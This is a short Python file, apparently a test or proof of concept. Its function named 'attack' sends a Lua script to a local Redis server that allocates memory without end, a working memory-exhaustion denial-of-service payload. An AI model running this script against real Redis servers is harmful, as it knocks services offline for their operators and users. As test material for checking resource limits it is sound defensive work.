import redis

SCRIPT = """
local kept = {}
while true do
    kept[#kept + 1] = string.rep('x', 1000000) .. #kept
end
"""


def attack():
    store = redis.Redis(unix_socket_path="/run/redis/redis.sock")
    store.eval(SCRIPT, 0)
